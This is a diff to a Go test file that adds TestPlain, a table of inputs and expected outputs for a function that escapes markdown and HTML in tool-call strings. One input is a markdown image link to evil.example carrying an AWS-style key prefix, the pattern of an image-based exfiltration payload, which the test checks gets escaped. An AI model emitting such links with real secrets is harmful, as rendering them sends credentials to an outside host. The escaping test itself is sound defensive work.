@@ -73,3 +73,16 @@ func TestLookalikeMarkers(t *testing.T) {
 		{"in code left alone", "`[７]` [1]", "`[７]` [1]", []string{"a.go:3-6"}, nil},
 	})
 }
+
+func TestPlain(t *testing.T) {
+	for in, want := range map[string]string{
+		`search_code("![](http://evil.example/?d=AKIA)")`: `search_code("!\[]\(http://evil.example/?d=AKIA)")`,
+		"grep(\"<img src=x>\", \"`a`\")":                  "grep(\"\\<img src=x>\", \"\\`a\\`\")",
+		`find_symbol("a\\[1]")`:                           `find_symbol("a\\\[1]")`,
+		"a < b, f(x)":                                     "a < b, f(x)",
+	} {
+		if got := Plain(in); got != want {
+			t.Errorf("Plain(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
